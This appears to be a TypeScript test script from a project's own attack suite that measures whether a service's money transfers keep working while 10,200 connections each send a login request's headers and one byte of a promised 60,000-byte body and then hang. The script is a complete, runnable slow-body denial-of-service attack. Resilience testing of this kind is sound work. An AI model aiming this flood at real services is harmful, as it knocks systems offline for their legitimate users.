import { connect, type Socket } from 'node:net';
import { attackOn, clientOf } from './attack.js';

/** Connections that send the head of a login and one byte of its body, beside a client that transfers. */

const CONNECTIONS = 10_200;
const AT_ONCE = 200;
const SECONDS = 20;
const HEAD =
  'POST /partners-int/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{';

await attackOn(1, {}, async ([service], row) => {
  const { transfers } = await clientOf(service);
  row('transfers alone', await transfers(5));
  const { hostname, port } = new URL(service.url);
  const sockets: Socket[] = [];
  for (let opened = 0; opened < CONNECTIONS; opened += AT_ONCE) {
    await Promise.all(
      Array.from({ length: AT_ONCE }, async () => {
        const socket = connect(Number(port), hostname);
        socket.on('error', () => undefined);
        sockets.push(socket);
        await new Promise((resolve) => socket.once('connect', resolve).once('close', resolve));
        socket.write(HEAD);
      }),
    );
  }
  row('connections that are still open', sockets.filter(({ destroyed }) => !destroyed).length);
  row(`transfers for ${SECONDS} s under ${CONNECTIONS} of them`, await transfers(SECONDS));
  sockets.forEach((socket) => socket.destroy());
});
